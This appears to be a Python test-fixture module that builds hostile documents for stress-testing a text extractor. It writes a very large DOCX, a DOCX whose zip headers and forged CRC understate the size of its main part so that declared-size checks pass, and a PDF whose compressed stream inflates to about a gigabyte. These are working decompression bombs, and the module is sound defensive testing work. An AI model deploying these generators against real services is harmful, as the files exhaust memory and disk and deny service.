"""Documents made to hurt an extractor: zip parts that lie about their size, honest but huge
Word files, PDF streams that inflate to gigabytes.

Each is written in seconds and takes little disk: the weight is in what they inflate to.
"""

from __future__ import annotations

import random
import struct
import zipfile
import zlib
from collections.abc import Iterator
from pathlib import Path

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
    'relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-'
    'officedocument.wordprocessingml.document.main+xml"/></Types>'
)
RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/officeDocument" Target="word/document.xml"/></Relationships>'
)
HEAD = f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:document xmlns:w="{W}"><w:body>'
TAIL = "</w:body></w:document>"
WORDS = str.split(
    "the harbour light keeper fishermen morning boats tide winter storm village road market "
    "灯台 港 漁師 朝 船 潮 冬 嵐 村 道 市場 lighthouse north south ferry island stone bridge"
)


def paragraph(text: str) -> str:
    # Real Word files wrap every run in properties: most of their XML is markup.
    return (
        '<w:p><w:pPr><w:spacing w:after="120"/></w:pPr><w:r><w:rPr><w:rFonts w:ascii="Calibri"/>'
        f'<w:sz w:val="22"/></w:rPr><w:t xml:space="preserve">{text}</w:t></w:r></w:p>'
    )


def _docx(path: Path, body: Iterator[str]) -> None:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", CONTENT_TYPES)
        z.writestr("_rels/.rels", RELS)
        with z.open("word/document.xml", "w", force_zip64=True) as f:
            f.write(HEAD.encode())
            for piece in body:
                f.write(piece.encode())
            f.write(TAIL.encode())


def write_honest_big_docx(path: Path, xml_mb: int = 200, seed: int = 7) -> Path:
    """A Word file within every limit (each part inflates ~25 times): paragraphs of words,
    ``xml_mb`` MB of document XML."""
    rng = random.Random(seed)

    def body() -> Iterator[str]:
        written = 0
        while written < xml_mb << 20:
            block = "".join(
                paragraph(" ".join(rng.choices(WORDS, k=rng.randint(8, 40)))) for _ in range(200)
            )
            written += len(block.encode())
            yield block

    _docx(path, body())
    return path


def write_underdeclared_docx(path: Path, real_mb: int = 1024, stated: int = 50_000) -> Path:
    """A Word file whose document part says ``stated`` bytes (in the local header and the
    central directory, with a CRC that matches its first ``stated`` bytes) but inflates to
    ``real_mb`` MB: a check of the declared sizes lets it through."""
    unit = paragraph("the same words again and again " * 4)
    count = (real_mb << 20) // len(unit)
    _docx(path, (unit * 1000 for _ in range(count // 1000)))
    data = bytearray(path.read_bytes())
    first = (HEAD + unit * (stated // len(unit) + 1)).encode()[:stated]
    crc = zlib.crc32(first)
    name = b"word/document.xml"
    at = data.find(b"PK\x03\x04")  # local headers: patch the one for the part
    while at >= 0:
        name_len = struct.unpack_from("<H", data, at + 26)[0]
        if data[at + 30 : at + 30 + name_len] == name:
            struct.pack_into("<I", data, at + 14, crc)
            _patch_size(data, at, local=True, stated=stated)
            break
        at = data.find(b"PK\x03\x04", at + 4)
    at = data.find(b"PK\x01\x02")
    while at >= 0:
        name_len = struct.unpack_from("<H", data, at + 28)[0]
        if data[at + 46 : at + 46 + name_len] == name:
            struct.pack_into("<I", data, at + 16, crc)
            _patch_size(data, at, local=False, stated=stated)
        at = data.find(b"PK\x01\x02", at + 4)
    path.write_bytes(bytes(data))
    return path


def _patch_size(data: bytearray, at: int, *, local: bool, stated: int) -> None:
    """Set the uncompressed size of a header, in its zip64 extra field when it has one."""
    size_at = at + (22 if local else 24)
    name_len, extra_len = struct.unpack_from("<HH", data, at + (26 if local else 28))
    extra = at + (30 if local else 46) + name_len
    if struct.unpack_from("<I", data, size_at)[0] == 0xFFFFFFFF:
        end = extra + extra_len
        while extra < end:
            tag, size = struct.unpack_from("<HH", data, extra)
            if tag == 1:  # zip64: uncompressed size first
                struct.pack_into("<Q", data, extra + 4, stated)
                return
            extra += 4 + size
    struct.pack_into("<I", data, size_at, stated)


def write_pdf_bomb(path: Path, inflated_mb: int = 1024) -> Path:
    """A one-page PDF whose content stream is ``inflated_mb`` MB of spaces, deflated
    (about 1 MB in the file)."""
    compressor = zlib.compressobj(9)
    parts = [compressor.compress(b"BT /F1 12 Tf 72 720 Td (Bomb) Tj ET\n")]
    block = b" " * (1 << 20)
    parts += [compressor.compress(block) for _ in range(inflated_mb)]
    parts.append(compressor.flush())
    stream = b"".join(parts)
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(stream) + stream
        + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]  # fmt: skip
    out = bytearray(b"%PDF-1.7\n")
    offsets = []
    for i, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % i + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % o for o in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        xref,
    )
    path.write_bytes(bytes(out))
    return path
